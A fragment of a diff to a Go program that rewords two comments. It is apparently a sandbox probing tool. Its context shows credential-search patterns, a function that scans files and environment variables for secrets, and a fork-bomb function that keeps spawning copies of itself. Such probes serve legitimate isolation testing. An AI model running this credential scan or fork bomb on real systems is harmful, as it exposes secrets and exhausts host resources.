@@ -160,7 +160,7 @@ var patterns = [][]byte{
 	[]byte(`"password":"`), []byte("BEGIN NATS USER JWT"),
 }
 
-// search reads all readable files and environments and reports credentials.
+// search reports credentials in readable files and environments.
 func search([]string) (string, error) {
 	var out strings.Builder
 	files := 0
@@ -215,7 +215,7 @@ func readonly(args []string) (string, error) {
 	return err.Error(), nil
 }
 
-// forkBomb starts copies of itself until a start fails.
+// forkBomb starts processes of this program until a start fails.
 func forkBomb([]string) (string, error) {
 	self, err := os.Executable()
 	n := 0
